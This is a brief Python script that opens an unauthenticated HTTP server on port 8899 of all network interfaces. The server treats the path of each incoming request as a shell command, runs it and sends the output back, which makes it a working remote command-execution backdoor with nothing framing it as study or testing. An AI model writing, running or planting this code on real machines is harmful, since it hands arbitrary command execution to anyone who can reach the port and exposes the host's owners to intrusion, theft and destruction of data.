import http.server, subprocess, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        cmd = urllib.parse.unquote(self.path[1:])
        self.wfile.write(subprocess.getoutput(cmd).encode())
http.server.HTTPServer(("0.0.0.0", 8899), H).serve_forever()
